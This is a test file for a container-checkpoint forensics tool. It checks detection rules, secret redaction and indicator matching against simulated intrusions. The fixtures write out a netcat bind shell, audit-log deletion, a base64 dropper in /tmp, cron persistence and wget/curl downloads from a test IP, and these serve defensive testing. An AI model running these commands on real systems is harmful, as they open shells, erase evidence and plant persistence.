# -*- coding: utf-8 -*-
# Copyright: forensic.checkpoint contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""findings.py: the verdict on the real fixtures, and each kind of rule on small analyses."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import hashlib
import json
import types

import pytest

from ansible_collections.forensic.checkpoint.plugins.module_utils.findings import engine as findings
from ansible_collections.forensic.checkpoint.plugins.module_utils.memory import scan as memory_search
from ansible_collections.forensic.checkpoint.plugins.module_utils.analysis.analyze import analyze
from ansible_collections.forensic.checkpoint.plugins.module_utils.errors import CheckpointError

AWS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"  # AWS's documentation example key
TOKEN = "ghp_R4nd0mT0k3nV4lu3F0rF0r3ns1csTest01"


def sha(text):
    return hashlib.sha256(text.encode()).hexdigest()


def by_id(result, rule_id):
    return [item for item in result["findings"] if item["id"] == rule_id]


@pytest.fixture(scope="module")
def lookup(archives):
    analysis = analyze(archives["lookup"])
    return analysis, findings.evaluate(analysis, archives["lookup"])


# -- the real fixtures ----------------------------------------------------------------------------

def test_lookup_backdoor_under_the_python_service(lookup):
    result = lookup[1]
    nc = by_id(result, "process.netcat-from-service")
    assert [(item["pid"], item["severity"]) for item in nc] == [(15, "critical")]
    assert "busybox nc -ll -p 4444 -e /bin/sh" in nc[0]["evidence"]
    assert "python3 /app/lookup.py" in nc[0]["evidence"]
    assert nc[0]["attack"] == "T1095"
    shell = by_id(result, "process.shell-from-netcat")
    assert [(item["pid"], item["severity"]) for item in shell] == [(16, "critical")]
    listener = by_id(result, "process.runtime-listener")
    assert [item["pid"] for item in listener] == [15] and "[::]:4444" in listener[0]["evidence"]


def test_lookup_shell_with_an_established_connection(lookup):
    conn = by_id(lookup[1], "net.shell-connection")
    assert len(conn) == 1  # fds 0 and 1 are one socket
    assert conn[0]["pid"] == 16 and conn[0]["severity"] == "critical" and conn[0]["attack"] == "T1059.004"
    assert "10.88.0.9:4444 <-> 10.88.0.1:42698" in conn[0]["evidence"]
    # the sleep that inherited the socket is only informational
    assert [item["severity"] for item in by_id(lookup[1], "net.established") if item["pid"] == 20] == ["info"]


def test_lookup_deleted_audit_log_shows_the_injected_command(lookup):
    log = by_id(lookup[1], "file.deleted-log")
    assert len(log) == 1 and log[0]["severity"] == "high" and log[0]["pid"] == 1
    assert log[0]["path"] == "/var/log/lookup-audit.log"
    assert "nc -ll -p 4444 -e /bin/sh" in log[0]["evidence"]
    assert "rm -f /var/log/lookup-audit.log" in log[0]["evidence"]
    recovered = lookup[1]["recovered"]
    assert [item["path"] for item in recovered] == ["/var/log/lookup-audit.log"]
    assert recovered[0]["size"] == 272 and "base64 -d > /tmp/.x.sh" in recovered[0]["head"]


def test_lookup_dropped_script_and_deleted_system_file(lookup):
    dropped = by_id(lookup[1], "rootfs.temp-executable")
    assert [(item["path"], item["severity"]) for item in dropped] == [("/tmp/.x.sh", "high")]
    assert "echo pwned" in dropped[0]["evidence"]
    deleted = by_id(lookup[1], "rootfs.deleted-system-file")
    assert [(item["path"], item["severity"]) for item in deleted] == [("/etc/issue", "high")]


def test_lookup_aws_key_in_the_environment_is_redacted(lookup):
    aws = by_id(lookup[1], "secret.aws-secret-key")
    service = [item for item in aws if item["pid"] == 1]
    assert len(service) == 1
    item = service[0]
    assert item["severity"] == "high" and item["source"] == "env" and item["variable"] == "AWS_SECRET_ACCESS_KEY"
    assert item["secret"] == {"redacted": "wJal...sha256:" + sha(AWS_KEY), "sha256": sha(AWS_KEY), "length": 40}
    assert item["inherited_by"] == [15, 16, 20]
    # the attacker's LOOT variable carries a copy: reported on its own
    loot = [entry for entry in aws if entry.get("variable") == "LOOT"]
    assert [entry["pid"] for entry in loot] == [20]
    assert item["vma"] == "stack"  # found in memory too: the environment block on the stack
    assert AWS_KEY not in json.dumps(lookup[1])


def test_lookup_token_in_memory_is_redacted_with_its_address(lookup, archives):
    token = by_id(lookup[1], "secret.github-token")
    assert len(token) == 1
    item = token[0]
    assert item["pid"] == 1 and item["severity"] == "high" and item["source"] == "memory"
    assert item["secret"]["redacted"] == "ghp_...sha256:" + sha(TOKEN)
    assert item["address_hex"] == "0x%x" % item["address"] and item["address_hex"] in item["evidence"]
    assert item["occurrences"] == 3
    # each address with the kind of memory it is in: Python keeps strings in anonymous arenas
    assert item["vmas"] == ["anon"] * 3 and item["vma"] == "anon" and "(anon)" in item["evidence"]
    assert TOKEN not in json.dumps(lookup[1])
    # the address is where the token really is in pid 1's memory
    from ansible_collections.forensic.checkpoint.plugins.module_utils.criu.archive import CheckpointArchive, range_readers
    from ansible_collections.forensic.checkpoint.plugins.module_utils.memory.pagemap import PageMap, ProcessMemory
    with CheckpointArchive(archives["lookup"]) as archive:
        pagemap = PageMap.load(archive, 1)
        for address in [int(text, 16) for text in item["addresses"]]:
            wanted = {pagemap.pages: list(pagemap.locate(address, len(TOKEN)))}
            memory = ProcessMemory(pagemap, range_readers(archive, wanted)[pagemap.pages])
            assert memory.read(address, len(TOKEN)) == TOKEN.encode()


def test_lookup_verdict_and_order(lookup):
    result = lookup[1]
    ranks = [findings.RANK[item["severity"]] for item in result["findings"]]
    assert ranks == sorted(ranks, reverse=True)
    assert result["summary"]["verdict"] == "compromised" and result["summary"]["highest"] == "critical"


def test_lookup_without_redaction_shows_the_secrets(archives):
    analysis = analyze(archives["lookup"], redact_secrets=False)
    result = findings.evaluate(analysis, archives["lookup"], {"redact_secrets": False})
    token = by_id(result, "secret.github-token")[0]
    assert token["secret"]["value"] == TOKEN and TOKEN in token["evidence"]


def test_redacted_analysis_gives_the_same_findings(archives, lookup):
    # checkpoint_analyze redacts secret-named variables before findings see them: nothing is lost
    redacted = findings.evaluate(analyze(archives["lookup"], redact_secrets=True), archives["lookup"])
    assert [(f["id"], f["pid"], f["subject"]) for f in redacted["findings"]] == \
        [(f["id"], f["pid"], f["subject"]) for f in lookup[1]["findings"]]


@pytest.mark.parametrize("name", ["counters", "counters_zst", "crio", "worker41"])
def test_benign_checkpoints_have_nothing_of_medium_or_more(archives, name):
    result = findings.evaluate(analyze(archives[name]), archives[name])
    assert findings.at_or_above(result["findings"], "medium") == []
    assert result["summary"]["verdict"] == "clean"


def test_counters_listening_port_is_info(archives):
    result = findings.evaluate(analyze(archives["counters"]), archives["counters"])
    assert [(f["id"], f["severity"], f["pid"]) for f in result["findings"]] == [("net.listening", "info", 1)]
    assert "0.0.0.0:8080" in result["findings"][0]["evidence"]


def test_later_checkpoint_has_the_cron_persistence(archives):
    result = findings.evaluate(analyze(archives["lookup_later"]), archives["lookup_later"])
    cron = by_id(result, "rootfs.cron")
    assert [(f["path"], f["severity"], f["tactic"]) for f in cron] == [("/etc/cron.d/persist", "high", "persistence")]
    assert "* * * * * root /tmp/.x.sh" in cron[0]["evidence"]


def test_indicators_in_memory_files_and_connections(archives):
    analysis = analyze(archives["lookup"])
    result = findings.evaluate(analysis, archives["lookup"], {"indicators": [
        "10.88.0.1", {"value": "IyEvYmluL3NoCmVjaG8gcHduZWQK", "name": "dropper payload", "severity": "critical"},
        {"value": r"pwn[e]d", "type": "regex", "severity": "low"}]})
    hits = by_id(result, "indicator.match")
    places = set((f["indicator"]["value"], f["pid"], f.get("path")) for f in hits)
    assert ("10.88.0.1", 16, None) in places  # the attacker's address on the shell's connection
    assert ("IyEvYmluL3NoCmVjaG8gcHduZWQK", None, "/var/log/lookup-audit.log") in places
    assert ("pwn[e]d", None, "/tmp/.x.sh") in places
    payload = [f for f in hits if f["indicator"]["value"].startswith("IyEv")]
    assert all(f["severity"] == "critical" and "dropper payload" in f["title"] for f in payload)
    assert any(f.get("address_hex") for f in payload if f["pid"] == 1)


def test_memory_scan_can_be_switched_off(archives):
    plain = analyze(archives["lookup"], redact_secrets=False)
    result = findings.evaluate(plain, archives["lookup"], {"scan_memory": False})
    assert by_id(result, "secret.github-token") == []
    assert by_id(result, "secret.aws-secret-key")  # the environment is still read
    # a redacted analysis without memory still names the secret variable, by its name
    result = findings.evaluate(analyze(archives["lookup"]), archives["lookup"], {"scan_memory": False})
    assert [(f["variable"], f["pid"]) for f in by_id(result, "secret.env-variable")] == [("AWS_SECRET_ACCESS_KEY", 1)]


# -- rules as data --------------------------------------------------------------------------------

def proc(pid, ppid, argv, **extra):
    item = {"pid": pid, "ppid": ppid, "comm": argv[0].split("/")[-1][:15], "argv": argv, "cmdline": " ".join(argv),
            "env": {}, "state": "running", "exe": "/usr/bin/" + argv[0].split("/")[-1], "exe_deleted": False,
            "files": [], "sockets": []}
    item.update(extra)
    return item


def sock(fd, state, local, lport, remote="0.0.0.0", rport=0, inode=None):
    return {"fd": fd, "family": "ipv4", "type": "stream", "protocol": "tcp", "state": state, "local_address": local,
            "local_port": lport, "remote_address": remote, "remote_port": rport, "inode": inode}


def evaluate(analysis, **options):
    return findings.evaluate(analysis, None, options)


def ids(result):
    return sorted((item["id"], item["pid"]) for item in result["findings"])


def test_lineage_rules():
    analysis = {"processes": [
        proc(1, 0, ["/usr/bin/java", "-jar", "app.jar"]),
        proc(7, 1, ["bash", "-c", "id"]),
        proc(8, 1, ["wget", "http://203.0.113.9/x"]),
        proc(9, 7, ["curl", "-O", "http://203.0.113.9/y"]),  # under a shell: the shell is the finding
    ]}
    assert ids(evaluate(analysis)) == [("process.download-from-service", 8), ("process.shell-from-service", 7)]


def test_shell_as_entrypoint_is_not_a_finding():
    analysis = {"processes": [proc(1, 0, ["sh", "-c", "python3 worker.py"]), proc(5, 1, ["python3", "worker.py"]),
                              proc(6, 5, ["sleep", "86400"])]}
    assert evaluate(analysis)["findings"] == []


def test_inherited_listeners_are_not_runtime_listeners():
    analysis = {"processes": [
        proc(1, 0, ["gunicorn", "app"], sockets=[sock(5, "LISTEN", "0.0.0.0", 8000, inode=11)]),
        proc(2, 1, ["gunicorn", "app"], sockets=[sock(5, "LISTEN", "0.0.0.0", 8000, inode=11)]),
        proc(3, 1, ["python3", "-m", "http.server", "9000"], sockets=[sock(3, "LISTEN", "0.0.0.0", 9000, inode=12)]),
    ]}
    result = evaluate(analysis)
    assert [item["pid"] for item in by_id(result, "process.runtime-listener")] == [3]


def test_deleted_and_temp_executables():
    analysis = {"processes": [proc(1, 0, ["app"]), proc(4, 1, ["/dev/shm/.k"], exe="/dev/shm/.k"),
                              proc(5, 1, ["miner"], exe="/usr/bin/miner", exe_deleted=True)]}
    assert ids(evaluate(analysis)) == [("process.deleted-executable", 5), ("process.temp-executable", 4)]


def test_deleted_open_files():
    files = [{"fd": 3, "type": "REG", "path": "/var/log/app/access.log", "deleted": True, "size": 10},
             {"fd": 4, "type": "REG", "path": "/tmp/cache.db", "deleted": True},
             {"fd": "exe", "type": "REG", "path": "/usr/bin/app", "deleted": True},
             {"fd": 5, "type": "REG", "path": "/etc/hosts", "deleted": False}]
    result = evaluate({"processes": [proc(1, 0, ["app"], files=files)]})
    assert [(f["id"], f["severity"], f["path"]) for f in result["findings"]] == [
        ("file.deleted-log", "high", "/var/log/app/access.log"), ("file.deleted-open", "medium", "/tmp/cache.db")]


def test_rootfs_persistence_rules():
    changed = [{"path": path, "type": "file", "size": 1, "mode": mode} for path, mode in (
        ("/etc/ld.so.preload", "0644"), ("/root/.ssh/authorized_keys", "0600"), ("/etc/systemd/system/x.service", "0644"),
        ("/var/spool/cron/crontabs/root", "0600"), ("/etc/profile.d/z.sh", "0644"), ("/etc/shadow", "0640"),
        ("/usr/local/bin/helper", "0755"), ("/tmp/notes.txt", "0644"), ("/etc/init.d/svc", "0755"))]
    changed.append({"path": "/etc/cron.d", "type": "dir", "size": 0, "mode": "0755"})
    result = evaluate({"rootfs": {"changed": changed, "deleted": ["/usr/bin/ps", "/app/cache"]}})
    assert sorted((f["id"], f["path"], f["severity"]) for f in result["findings"]) == sorted([
        ("rootfs.ld-preload", "/etc/ld.so.preload", "critical"),
        ("rootfs.authorized-keys", "/root/.ssh/authorized_keys", "high"),
        ("rootfs.systemd-unit", "/etc/systemd/system/x.service", "high"),
        ("rootfs.cron", "/var/spool/cron/crontabs/root", "high"),
        ("rootfs.shell-profile", "/etc/profile.d/z.sh", "medium"),
        ("rootfs.accounts", "/etc/shadow", "high"),
        ("rootfs.new-executable", "/usr/local/bin/helper", "medium"),
        ("rootfs.new-executable", "/etc/init.d/svc", "medium"),
        ("rootfs.init-script", "/etc/init.d/svc", "high"),
        ("rootfs.temp-file", "/tmp/notes.txt", "low"),
        ("rootfs.deleted-system-file", "/usr/bin/ps", "high"),
    ])
    assert all(f["tactic"] == "persistence" for f in result["findings"] if f["id"] in (
        "rootfs.ld-preload", "rootfs.cron", "rootfs.authorized-keys"))


def test_listening_and_established_sockets_are_info_unless_a_shell_owns_them():
    analysis = {"processes": [
        proc(1, 0, ["nginx"], sockets=[sock(6, "LISTEN", "0.0.0.0", 80),
                                       sock(7, "ESTABLISHED", "10.0.0.2", 80, "10.0.0.9", 51000)]),
        proc(2, 0, ["bash"], sockets=[sock(3, "LISTEN", "0.0.0.0", 31337)]),
    ]}
    result = evaluate(analysis)
    assert sorted((f["id"], f["severity"]) for f in result["findings"]) == [
        ("net.established", "info"), ("net.listening", "info"), ("net.shell-listener", "high")]


@pytest.mark.parametrize("name", ["counters", "lookup", "lookup_later", "worker41"])
def test_connections_are_made_as_read_and_equal_eager_rows(archives, name):
    """facts["connections"] is lazy (not a list) and yields, in process then fd order, the rows the
    eager construction made: each inet socket with its owner's fields, local/remote as address:port."""
    analysis = analyze(archives[name])
    facts = findings.build_facts(analysis)
    expected = []
    for item in facts["processes"]:
        for entry in item.get("sockets") or []:
            if entry.get("family") in ("ipv4", "ipv6"):
                row = dict(entry, pid=item["pid"], comm=item.get("comm"), program=item["program"], tool=item["tool"],
                           command=item["command"])
                row.update(local=findings.endpoint(entry.get("local_address"), entry.get("local_port")),
                           remote=findings.endpoint(entry.get("remote_address"), entry.get("remote_port")),
                           state=(entry.get("state") or "").upper() or None)
                expected.append(row)
    connections = facts["connections"]
    assert not isinstance(connections, list)
    assert list(connections) == expected and len(connections) == len(expected)
    assert connections.head(1) == expected[:1]


def test_listening_and_established_lists_are_bounded_and_new_listeners_stay_right(monkeypatch):
    """RULE_PROCESS_SOCKETS sockets in all are listed (the rest counted, said); a child's listener
    that its parent holds past the parent's cut is still inherited, not new."""
    monkeypatch.setattr(findings, "RULE_PROCESS_SOCKETS", 5)
    analysis = {"processes": [  # the child first: it takes its room before its parent does
        proc(2, 1, ["gunicorn", "app"], sockets=[sock(5, "LISTEN", "0.0.0.0", 8006, inode=16),
                                                 sock(6, "LISTEN", "0.0.0.0", 9000, inode=100)]),
        proc(1, 0, ["gunicorn", "app"], sockets=[sock(3 + index, "LISTEN", "0.0.0.0", 8001 + index, inode=11 + index)
                                                 for index in range(6)] +
             [sock(10, "ESTABLISHED", "10.0.0.2", 8001, "10.0.0.9", 51000, inode=50)]),
    ]}
    omitted = {}
    facts = findings.build_facts(analysis, omitted=omitted)
    child, parent = facts["processes"]
    assert [item["inode"] for item in child["listening"]] == [16, 100]
    assert [item["inode"] for item in parent["listening"]] == [11, 12, 13] and parent["established"] == []
    assert [item["inode"] for item in child["new_listeners"]] == [100]
    assert omitted == {"process_sockets": 4} and len(facts["connections"]) == 9
    result = evaluate(analysis)
    assert result["omitted"]["process_sockets"] == 4 and result["omitted"]["connections"] == 0
    assert any(warning.startswith("4 inet sockets listening or established left out") for warning in result["warnings"])
    assert [item["pid"] for item in by_id(result, "process.runtime-listener")] == [2]
    assert len(by_id(result, "net.listening")) == 8 and len(by_id(result, "net.established")) == 1


def test_a_rule_that_is_not_a_filter_of_connections_sees_a_bounded_head(monkeypatch):
    """connections as open_files: a filter reads every row, any other select the first
    RULE_CONNECTIONS (omitted.connections, a warning naming the rule)."""
    monkeypatch.setattr(findings, "STREAMED", (("open_files", "open files", 2), ("connections", "connections", 3)))
    monkeypatch.setattr(findings, "ROWS_PIECE", 2)
    analysis = {"processes": [proc(1, 0, ["app"], sockets=[sock(3 + index, "ESTABLISHED", "10.0.0.2", 80, "10.0.0.9",
                                                                51000 + index) for index in range(7)])]}
    rules = [{"id": "count", "severity": "low", "select": "[length(connections)]", "subject": "{value}"},
             {"id": "last", "severity": "low", "select": "connections[?remote_port==`51006`].remote"}]
    result = evaluate(analysis, rules=rules)
    subjects = dict((item["id"], item["subject"]) for item in result["findings"] if item["id"] in ("count", "last"))
    assert subjects == {"count": "3", "last": "10.0.0.9:51006"}
    assert result["omitted"]["connections"] == 4 and result["omitted"]["open_files"] == 0
    assert any("rule count saw the first 3 of 7 connections" in warning for warning in result["warnings"])


class CountedSockets(list):
    """A process's sockets that count how often they are read (analysis' SocketRows decode each
    socket every time)."""

    reads = 0

    def __iter__(self):
        CountedSockets.reads += 1
        return super(CountedSockets, self).__iter__()


def test_rules_and_indicators_read_the_connections_in_one_pass(monkeypatch):
    """build_facts reads the sockets once for the processes' lists; the rules over connections and
    every indicator spec share one more pass; every spec is matched (the last socket's peer too)."""
    monkeypatch.setattr(CountedSockets, "reads", 0)
    monkeypatch.setattr(findings, "ROWS_PIECE", 3)
    sockets = CountedSockets(sock(3 + index, "ESTABLISHED", "10.0.0.2", 80, "10.0.0.%d" % (10 + index), 51000 + index)
                             for index in range(10))
    analysis = {"processes": [proc(1, 0, ["app"], sockets=sockets)]}
    result = evaluate(analysis, indicators=["10.0.0.19", "10.0.0.10", "10.0.0.2"],
                      rules=[{"id": "last", "severity": "low", "select": "connections[?remote_port==`51009`].remote"}])
    assert CountedSockets.reads == 2
    assert sorted(item["subject"] for item in by_id(result, "indicator.match")) == [
        "ip 10.0.0.10 in connections", "ip 10.0.0.19 in connections", "ip 10.0.0.2 in connections"]
    assert [item["subject"] for item in by_id(result, "last")] == ["10.0.0.19:51009"]


def test_env_secrets_by_pattern_and_by_name():
    env = {"DB_PASSWORD": "Sup3rS3cret!", "PASSWORD_FILE": "/run/secrets/db", "SLACK": "xoxb-1234567890-abcdefghij",
           "PATH": "/usr/bin", "API_TOKEN": "short"}
    result = evaluate({"processes": [proc(1, 0, ["app"], env=env)]})
    got = sorted((f["id"], f["variable"], f["severity"]) for f in result["findings"])
    assert got == [("secret.env-variable", "DB_PASSWORD", "medium"), ("secret.slack-token", "SLACK", "high")]
    text = json.dumps(result)
    assert "Sup3rS3cret!" not in text and "xoxb-1234567890-abcdefghij" not in text
    assert "xoxb...sha256:" + sha("xoxb-1234567890-abcdefghij") in text


def test_redaction_of_short_secrets_shows_no_characters():
    assert findings.redact("abcdefgh") == "...sha256:" + sha("abcdefgh")
    assert findings.redact("abcdefghijk") == "abcd...sha256:" + sha("abcdefghijk")


def test_user_rules_extend_and_override(tmp_path):
    rules = tmp_path / "rules.yml"
    rules.write_text(
        "rules:\n"
        "  - id: custom.java-debug\n"
        "    severity: medium\n"
        "    title: JVM debug agent\n"
        "    attack: T1059\n"
        "    select: \"processes[?contains(command, 'jdwp')]\"\n"
        "    evidence: 'pid {pid} runs {command}'\n"
        "  - id: net.listening\n"
        "    severity: low\n"
        "  - id: process.shell-from-service\n"
        "    enabled: false\n")
    analysis = {"processes": [
        proc(1, 0, ["java", "-agentlib:jdwp=transport=dt_socket", "-jar", "a.jar"],
             sockets=[sock(4, "LISTEN", "0.0.0.0", 5005)]),
        proc(2, 1, ["sh", "-c", "id"])]}
    result = findings.evaluate(analysis, None, {"rules": [str(rules)]})
    assert sorted((f["id"], f["severity"]) for f in result["findings"]) == [
        ("custom.java-debug", "medium"), ("net.listening", "low")]
    custom = by_id(result, "custom.java-debug")[0]
    assert custom["evidence"] == "pid 1 runs java -agentlib:jdwp=transport=dt_socket -jar a.jar"
    assert custom["attack"] == "T1059" and custom["pid"] == 1


def test_inline_rule_on_strings():
    rule = {"id": "custom.app-deleted", "severity": "low", "select": "rootfs.deleted[?starts_with(@, '/app/')]",
            "evidence": "{path} is gone"}
    result = findings.evaluate({"rootfs": {"deleted": ["/app/x"]}}, None, {"rules": [rule]})
    assert [(f["id"], f["evidence"], f["title"]) for f in result["findings"]] == [
        ("custom.app-deleted", "/app/x is gone", "custom.app-deleted")]


@pytest.mark.parametrize("rule, message", [
    ({"id": "x", "severity": "urgent", "select": "processes"}, "severity must be one of"),
    ({"id": "x", "severity": "low"}, "needs a select expression"),
    ({"id": "x", "severity": "low", "select": "processes[?"}, "bad select expression"),
    ({"id": "x", "severity": "low", "select": "processes", "condtion": "a"}, "unknown keys condtion"),
    ({"id": "x", "severity": "low", "check": "secret", "pattern": "("}, "bad pattern regex"),
    ({"severity": "low", "select": "processes"}, "a rule has no id"),
])
def test_bad_rules_fail_with_one_line(rule, message):
    with pytest.raises(CheckpointError) as err:
        findings.load_rules([rule])
    assert message in str(err.value) and "\n" not in str(err.value)


def test_bad_rule_file(tmp_path):
    path = tmp_path / "bad.yml"
    path.write_text("- id: [unclosed\n")
    with pytest.raises(CheckpointError, match="bad.yml: not valid YAML"):
        findings.load_rules([str(path)])
    with pytest.raises(CheckpointError, match="cannot read rules"):
        findings.load_rules([str(tmp_path / "missing.yml")])


def test_bad_indicator_and_threshold():
    with pytest.raises(CheckpointError, match="bad regex"):
        findings.evaluate({}, None, {"indicators": [{"value": "(", "type": "regex"}]})
    with pytest.raises(CheckpointError, match="fail_on_severity"):
        findings.at_or_above([], "severe")


def test_attacker_text_cannot_forge_evidence_lines():
    analysis = {"processes": [proc(1, 0, ["app"]), proc(2, 1, ["sh", "-c", "x\nCRITICAL fake\x1b[2J"])]}
    evidence = evaluate(analysis)["findings"][0]["evidence"]
    assert "\x1b" not in evidence


def test_yara_is_optional(monkeypatch, archives):
    monkeypatch.setattr(findings, "HAS_YARA", False)
    result = findings.evaluate(analyze(archives["counters"]), archives["counters"], {"yara_rules": ["/nonexistent"]})
    assert any("yara-python is not installed" in warning for warning in result["warnings"])


def test_yara_matches_in_memory_with_addresses(monkeypatch, archives, tmp_path):
    """With a stand-in for yara-python (same API): matches become findings with their address."""
    class Match(object):
        def __init__(self, offset):
            self.rule, self.meta = "counter_secret", {"severity": "critical", "attack": "T1552"}
            self.strings = [(offset, "$s", b"RANDOM_1432_KEY")]

    class Rules(object):
        def match(self, data):
            offset = data.find(b"RANDOM_1432_KEY")
            return [Match(offset)] if offset >= 0 else []

    fake = types.SimpleNamespace(compile=lambda filepaths: Rules(), Error=Exception)
    monkeypatch.setattr(findings, "HAS_YARA", True)
    monkeypatch.setattr(findings, "yara", fake, raising=False)
    rules = tmp_path / "x.yar"
    rules.write_text("rule counter_secret { strings: $s = \"RANDOM_1432_KEY\" condition: $s }\n")
    result = findings.evaluate(analyze(archives["counters"]), archives["counters"], {"yara_rules": [str(rules)]})
    hits = by_id(result, "yara.match")
    assert hits and all(f["severity"] == "critical" and f["yara_rule"] == "counter_secret" for f in hits)
    assert any(f["pid"] == 1 and f["address_hex"].startswith("0x") for f in hits)


@pytest.mark.skipif(not findings.HAS_YARA, reason="yara-python is not installed")
def test_real_yara(archives, tmp_path):
    rules = tmp_path / "x.yar"
    rules.write_text("rule counter_secret { meta: severity = \"high\" strings: $s = \"RANDOM_1432_KEY\" "
                     "condition: $s }\n")
    result = findings.evaluate(analyze(archives["counters"]), archives["counters"], {"yara_rules": [str(rules)]})
    assert any(f["pid"] == 1 and f.get("address_hex") for f in by_id(result, "yara.match"))


def windows(data, address, cuts, scanner):
    """memory_search's windows over one segment, owned parts split at ``cuts``, each with the
    look-behind and look-ahead the scanner asks for and stale bytes past its end."""
    bounds = [0] + cuts + [len(data)]
    for low, high in zip(bounds, bounds[1:]):
        first, last = max(0, low - scanner.before), min(len(data), high + scanner.after)
        window = memory_search.Window()
        window.data = bytearray(data[first:last]) + data[:200]
        window.end, window.start, window.stop = last - first, low - first, high - first
        window.address, window.offset, window.segment = address + first, first, address
        window.pid, window.pages = 1, "checkpoint/pages-1.img"
        yield window


def test_memory_windows_find_each_match_once_at_its_address():
    token = b"ghp_" + b"A" * 36
    cut = 100000
    data = bytearray(3 * cut)
    data[:len(token)] = token  # also in the stale bytes past each window's end, which must not count
    data[cut - 10:cut + 30] = token  # across the first cut
    data[cut + 40:cut + 80] = token  # in the first window's look-ahead, owned by the second
    scanner = findings._Scanner([r for r in findings.BUILTIN_RULES if r["id"] == "secret.github-token"],
                                findings._indicator_specs([{"value": "A{20,}", "type": "regex"}]), None)
    for window in windows(bytes(data), 0x10000, [cut, 2 * cut], scanner):
        scanner.feed(window)
    secrets = list(scanner.secrets.items.values())
    assert len(secrets) == 1
    secret = secrets[0]
    assert secret["addresses"] == [0x10000, 0x10000 + cut - 10, 0x10000 + cut + 40] and secret["occurrences"] == 3
    # the A run across the cut is one match, not a second one where the next window begins
    runs = list(scanner.matches.items.values())
    assert len(runs) == 1
    run = runs[0]
    assert run["addresses"] == [0x10004, 0x10000 + cut - 6, 0x10000 + cut + 44] and run["occurrences"] == 3
